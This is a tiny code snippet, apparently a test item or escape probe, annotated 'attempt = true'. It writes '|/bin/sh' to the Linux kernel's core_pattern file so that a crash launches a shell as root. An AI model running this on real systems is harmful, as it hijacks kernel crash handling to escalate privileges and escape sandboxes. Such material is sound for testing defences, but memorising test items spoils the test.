#| about = "the kernel runs a program when something crashes"
#| attempt = true
open("/proc/sys/kernel/core_pattern", "w").write("|/bin/sh")
